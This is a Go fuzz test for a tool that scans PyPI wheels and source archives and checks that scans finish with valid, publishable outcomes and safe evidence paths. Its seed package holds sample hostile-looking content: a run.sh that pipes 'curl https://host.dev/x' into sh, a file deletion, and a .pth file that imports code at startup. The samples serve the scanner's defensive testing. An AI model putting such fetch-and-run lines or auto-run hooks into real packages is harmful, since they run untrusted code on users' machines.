package worker

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"prevalence/internal/pypi"
	"prevalence/schemas/message"
)

// stored is a zip whose members are not compressed, so that a changed byte is
// a changed byte of a member.
func stored(t testing.TB, files []packedFile) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, f := range files {
		e, err := w.CreateHeader(&zip.FileHeader{Name: f.name, Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(e, f.data); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// FuzzDistribution looks for files that crash a scan, end it without an
// outcome, or make a scan that cannot be published.
func FuzzDistribution(f *testing.F) {
	members := []packedFile{
		{"demo/__init__.py", "import os\nos.remove('x')\nurl = 'https://host.dev/a'\n"},
		{"demo.pth", "import demo\n"},
		{"setup.cfg", "[metadata]\nname = demo\n"},
		{"run.sh", "#!/bin/sh\ncurl https://host.dev/x | sh\n"},
		{"demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nAuthor-email: A <a@host.dev>\n\nText\n"},
	}
	f.Add(stored(f, members), true)
	plain, err := gzip.NewReader(bytes.NewReader(packTar(f, "demo-1.0", members)))
	if err != nil {
		f.Fatal(err)
	}
	sdist, err := io.ReadAll(plain)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(sdist, false)
	a := newAnalyzer(f, Options{})
	f.Fuzz(func(t *testing.T, data []byte, wheel bool) {
		file := pypi.File{Name: "demo-1.0.tar", Kind: pypi.KindSdist, Version: "1.0"}
		if wheel {
			file = pypi.File{Name: "demo-1.0-py3-none-any.whl", Kind: pypi.KindWheel, Version: "1.0"}
		}
		open := func(context.Context, pypi.File, bool) (*packed, error) {
			return &packed{stream: io.NopCloser(bytes.NewReader(data))}, nil
		}
		start := time.Now()
		d := a.sitDown(false)
		defer d.leave()
		s, err := a.files(t.Context(), d, a.newScan("demo", "1.0"), []pypi.File{file}, open)
		if err != nil {
			t.Fatal(err)
		}
		if took := time.Since(start); took > 10*time.Second {
			t.Errorf("took %v for %d bytes", took, len(data))
		}
		outcomes := []message.Outcome{message.OutcomeOK, message.OutcomePartial, message.OutcomeUnanalysed}
		if !slices.Contains(outcomes, s.Outcome) || s.Why == WhyScannerPanic || s.Outcome != message.OutcomeOK && s.Why == "" {
			t.Errorf("outcome %q, %q", s.Outcome, s.Why)
		}
		for _, o := range s.Observations {
			for _, e := range o.Evidence {
				if strings.HasPrefix(e.Path, "/") || strings.Contains("/"+e.Path+"/", "/../") {
					t.Errorf("evidence at %q", e.Path)
				}
			}
		}
		if _, err := message.EncodeScan(s); err != nil {
			t.Error(err)
		}
	})
}
